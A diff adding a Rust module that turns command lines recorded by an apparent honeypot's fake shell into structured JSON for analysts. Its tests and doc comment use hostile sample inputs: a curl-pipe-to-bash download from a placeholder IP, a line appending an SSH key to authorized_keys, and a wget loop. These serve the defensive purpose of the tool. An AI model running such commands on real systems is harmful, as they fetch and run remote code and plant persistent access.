@@ -0,0 +1,172 @@
+//! Structured form of recorded command lines.
+//!
+//! Next to the raw line, `commands.parsed_command` holds what the fake shell's
+//! parser made of it, so analysts can ask for "everything piped into bash" or
+//! "every write to authorized_keys" with a JSON path instead of a regex:
+//!
+//! ```json
+//! {
+//!   "command": "curl",
+//!   "commands": ["curl", "bash"],
+//!   "compound": [],
+//!   "pipelines": [
+//!     {"op": ";", "stages": [
+//!       {"command": "curl", "args": ["-s", "http://203.0.113.7/x.sh"], "redirects": []},
+//!       {"command": "bash", "args": [], "redirects": []}
+//!     ]}
+//!   ]
+//! }
+//! ```
+//!
+//! `op` is how a pipeline connects to the next one (`;`, `&&` or `||`). Arguments
+//! are expanded like the shell would with a fresh environment, `~` and `$HOME`
+//! are the user's home directory. Redirection targets and command substitutions
+//! are kept as written.
+
+use serde_json::{Value, json};
+use shell::parser::{AndOp, AndOrItem, Node, RedirTarget, Redirect, parse_script};
+use std::collections::HashMap;
+
+/// Parsed form of `line` as typed by `username`, None for blank lines
+pub fn parsed_command(line: &str, username: &str) -> Option<Value> {
+    if line.trim().is_empty() {
+        return None;
+    }
+    let home = format!("/home/{}", username);
+    let env = HashMap::from([
+        ("HOME".to_string(), home.clone()),
+        ("USER".to_string(), username.to_string()),
+        ("SHELL".to_string(), "/bin/bash".to_string()),
+    ]);
+    let script = parse_script(line, &env, &home);
+
+    let mut items = Vec::new();
+    let mut compound = Vec::new();
+    collect(&script.nodes, &mut items, &mut compound);
+    if items.is_empty() {
+        return None;
+    }
+
+    let mut commands: Vec<&str> = Vec::new();
+    for item in &items {
+        for stage in &item.pipeline.commands {
+            if !commands.contains(&stage.name.as_str()) {
+                commands.push(&stage.name);
+            }
+        }
+    }
+
+    Some(json!({
+        "command": commands.first(),
+        "commands": commands,
+        "compound": compound,
+        "pipelines": items.iter().copied().map(pipeline).collect::<Vec<_>>(),
+    }))
+}
+
+/// Every and-or item in the order it appears, including those in the conditions
+/// and bodies of compound commands, whose keywords go to `compound`
+fn collect<'a>(
+    nodes: &'a [Node],
+    items: &mut Vec<&'a AndOrItem>,
+    compound: &mut Vec<&'static str>,
+) {
+    for node in nodes {
+        match node {
+            Node::Seq(list) => items.extend(&list.items),
+            Node::If {
+                branches,
+                else_body,
+            } => {
+                compound.push("if");
+                for (cond, body) in branches {
+                    collect(cond, items, compound);
+                    collect(body, items, compound);
+                }
+                if let Some(body) = else_body {
+                    collect(body, items, compound);
+                }
+            }
+            Node::For { body, .. } => {
+                compound.push("for");
+                collect(body, items, compound);
+            }
+            Node::While { cond, body, until } => {
+                compound.push(if *until { "until" } else { "while" });
+                collect(cond, items, compound);
+                collect(body, items, compound);
+            }
+        }
+    }
+}
+
+fn pipeline(item: &AndOrItem) -> Value {
+    let op = match item.op {
+        AndOp::Then => ";",
+        AndOp::And => "&&",
+        AndOp::Or => "||",
+    };
+    let stages = item
+        .pipeline
+        .commands
+        .iter()
+        .map(|stage| {
+            json!({
+                "command": stage.name,
+                "args": stage.args,
+                "redirects": stage.redirects.iter().map(redirect).collect::<Vec<_>>(),
+            })
+        })
+        .collect::<Vec<_>>();
+    json!({ "op": op, "stages": stages })
+}
+
+fn redirect(redirect: &Redirect) -> Value {
+    let target = match &redirect.target {
+        RedirTarget::DevNull => "/dev/null".to_string(),
+        RedirTarget::File(path) => path.clone(),
+        RedirTarget::Fd(fd) => format!("&{}", fd),
+    };
+    json!({
+        "fd": redirect.fd,
+        "append": redirect.append,
+        "target": target,
+    })
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+
+    #[test]
+    fn pipes_into_a_shell_are_stages() {
+        let parsed = parsed_command("curl -s http://203.0.113.7/x.sh | bash", "root").unwrap();
+        assert_eq!(parsed["command"], "curl");
+        assert_eq!(parsed["commands"], json!(["curl", "bash"]));
+        let stages = &parsed["pipelines"][0]["stages"];
+        assert_eq!(stages[0]["args"], json!(["-s", "http://203.0.113.7/x.sh"]));
+        assert_eq!(stages[1]["command"], "bash");
+    }
+
+    #[test]
+    fn redirections_and_chaining_are_kept() {
+        let parsed = parsed_command(
+            "mkdir -p ~/.ssh && echo ssh-rsa AAAA >> ~/.ssh/authorized_keys",
+            "ubuntu",
+        )
+        .unwrap();
+        assert_eq!(parsed["pipelines"][0]["op"], "&&");
+        assert_eq!(
+            parsed["pipelines"][1]["stages"][0]["redirects"][0],
+            json!({"fd": 1, "append": true, "target": "~/.ssh/authorized_keys"})
+        );
+    }
+
+    #[test]
+    fn compound_commands_are_flattened() {
+        let parsed = parsed_command("for i in 1 2; do wget http://x/$i; done", "root").unwrap();
+        assert_eq!(parsed["compound"], json!(["for"]));
+        assert_eq!(parsed["commands"], json!(["wget"]));
+        assert_eq!(parsed_command("   ", "root"), None);
+    }
+}